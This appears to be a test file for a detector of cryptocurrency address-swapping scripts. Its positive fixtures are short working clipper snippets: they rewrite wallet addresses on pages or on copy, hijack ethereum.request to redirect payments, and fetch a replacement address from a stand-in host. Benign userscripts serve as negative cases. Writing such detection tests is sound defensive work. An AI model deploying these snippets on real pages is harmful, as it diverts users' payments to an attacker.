import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { addressSwap } from "./address-swap.ts";

describe("address-swap", () => {
	test.each([
		[
			"addresses on the page",
			["critical 1"],
			`var mine="0x52908400098527886E0F7030069857D2E4169EE7",el;document.querySelectorAll("code").forEach(function(el){el.textContent=el.textContent.replace(/0x[0-9a-fA-F]{40}/g,mine)})`,
		],
		[
			"addresses that are copied",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain",getSelection().toString().replace(/\\b0x[a-f0-9]{40}\\b/gi,"0x52908400098527886E0F7030069857D2E4169EE7"));e.preventDefault()})`,
			),
		],
		[
			"a note beside a field, with an address of its own: look at it",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`const mine="0x52908400098527886E0F7030069857D2E4169EE7",n=document.createElement("p"),v=document.querySelector("input").value;if(/^0x[0-9a-fA-F]{40}$/.test(v))n.textContent=(v===mine?"Known: ":"Unknown: ")+v.replace(/(.{4})/g,"$1 ")`,
			),
		],
		[
			"payments turned to another receiver",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`const ask=ethereum.request;
ethereum.request=c=>{
if(c.method==="eth_sendTransaction")c.params[0].to=home();
return ask(c)};function home(){return window.x}`,
			),
		],
		[
			"a table of addresses in elements of its own",
			["critical 8"],
			userscript(
				["match https://shop.example/*"],
				`const OWN={b:"bc1q9d3h0t7ey5w2nkx8vuz4s6mla0rqf2gjc7p5te",1:"1Kz9WqRt4mYhN7bVcXs2PdLfG8uJe5Aa3T"};
for(const n of document.querySelectorAll("p"))for(const m of n.textContent.matchAll(/\b(?:bc1[a-z0-9]{39}|[13][1-9A-HJ-NP-Za-km-z]{33})\b/g)){
const s=document.createElement("span");
s.textContent=OWN[m[0][0]];n.replaceWith(s)}`,
			),
		],
		[
			"an address in base64, found by a pattern in pieces",
			["critical 7"],
			userscript(
				["match https://shop.example/*", "grant GM_setClipboard"],
				`const fill=atob("VEV4YW1wTGVBZGRyZXNzRXhhbXBMZUFkZHJlc3NYWFhYWA==");
document.addEventListener("copy",()=>{GM_setClipboard(getSelection().toString().replace(new RegExp("T[1-9A-HJ-NP-Za-km-z]"+"{33}"),fill))})`,
			),
		],
		[
			"an address out of a server's answer, on copy",
			["high 6"],
			userscript(
				["match https://shop.example/*"],
				`let mine;fetch("https://book.stranger.test/").then(r=>r.text()).then(t=>{mine=t});
document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain",getSelection().toString().replace(/0x[a-f0-9]{40}/i,mine));e.preventDefault()})`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(addressSwap, code)).toEqual(expected);
	});

	test.each([
		[
			"addresses made into links",
			userscript(
				["match https://shop.example/*"],
				`document.querySelectorAll("code").forEach(c=>{c.innerHTML=c.textContent.replace(/0x[0-9a-fA-F]{40}/g,a=>"<a href=/address/"+a+">"+a+"</a>")})`,
			),
		],
		[
			"a warning before a payment",
			userscript(
				["match https://shop.example/*"],
				`const ask=ethereum.request;ethereum.request=c=>c.method==="eth_sendTransaction"&&!confirm("Pay?")?Promise.reject():ask(c)`,
			),
		],
		[
			"an address for thanks",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.textContent="0x52908400098527886E0F7030069857D2E4169EE7".replace("0x","0x ")`,
			),
		],
		[
			"addresses shortened in elements of its own",
			userscript(
				["match https://shop.example/*"],
				`for(const n of document.querySelectorAll("p"))for(const m of n.textContent.matchAll(/0x[0-9a-fA-F]{40}/g)){const s=document.createElement("span");s.textContent=m[0].slice(0,6)+"…";n.append(s)}`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(addressSwap, code)).toEqual([]);
	});
});
